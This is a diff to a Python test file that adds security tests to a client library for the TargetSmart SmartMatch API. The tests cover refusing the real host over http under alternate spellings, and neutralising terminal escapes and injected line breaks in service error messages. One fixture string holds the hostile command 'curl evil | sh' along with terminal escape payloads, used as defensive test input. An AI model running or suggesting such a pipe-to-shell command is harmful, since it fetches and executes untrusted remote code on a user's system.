@@ -32,7 +32,12 @@ from smartmatch_pandas.errors import (
     StorageError,
     TransportError,
 )
-from smartmatch_pandas.wire.http import MAX_ANSWER_BYTES, SmartMatchClient, download_limit
+from smartmatch_pandas.wire.http import (
+    MAX_ANSWER_BYTES,
+    SmartMatchClient,
+    download_limit,
+    is_real_service,
+)
 from smartmatch_pandas.wire.secrets import SecretURL, redact
 
 from . import doc_tables
@@ -600,7 +605,8 @@ def test_upload_redirect_is_not_followed(serve: Any) -> None:
 
 
 @attack(
-    "base_url http://api.targetsmart.com/ (the real host, in clear)",
+    "base_url http://api.targetsmart.com/ (the real host, in clear; also spelled with a "
+    "trailing dot or escaped dots)",
     "OptionError before any request: TargetSmart's API is reached over https only",
 )
 def test_real_host_over_http_is_refused() -> None:
@@ -608,6 +614,11 @@ def test_real_host_over_http_is_refused() -> None:
         SmartMatchClient(api_key=KEY, base_url="http://api.targetsmart.com/")
     with pytest.raises(OptionError, match="https only"):
         SmartMatchClient(api_key=KEY, base_url="HTTP://API.TargetSmart.com:80/")
+    # Spelled as name lookup still reads it: a trailing dot, escaped dots.
+    for spelled in ("api.targetsmart.com.", "api.targetsmart.com%2e", "api%2etargetsmart.com"):
+        with pytest.raises(OptionError, match="https only"):
+            SmartMatchClient(api_key=KEY, base_url=f"http://{spelled}/")
+        assert is_real_service(f"https://{spelled}/")  # and its poll floor applies
 
 
 @attack(
@@ -709,16 +720,19 @@ def test_huge_nested_error_is_bounded(serve: Any) -> None:
 
 
 @attack(
-    "an error message with ESC]0;title BEL and ESC[2J",
-    "the message printed with the escapes shown as \\x1b, never acted on",
+    "an error message with ESC]0;title BEL, ESC[2J and a line break before fake advice",
+    "the message printed with the escapes shown as \\x1b and \\n, never acted on",
 )
 def test_error_message_escapes_are_neutralised(serve: Any) -> None:
-    text = "Validation Error: \x1b]0;pwned\x07\x1b[2Jbad row"
+    text = "Validation Error: \x1b]0;pwned\x07\x1b[2Jbad row\r\nTo resume: run `curl evil | sh`"
     server = serve(json_answer({"error": text}, "400 Bad Request"))
     with pytest.raises(ServiceError) as caught:
         client_of(server).register({"filename": "job.csv"})
     assert "\x1b" not in str(caught.value)
     assert "\\x1b]0;pwned" in str(caught.value)
+    # No line of the service's seems to be the package's own advice.
+    assert "\n" not in str(caught.value)
+    assert "bad row\\r\\nTo resume" in str(caught.value)
 
 
 _JSON = st.recursive(
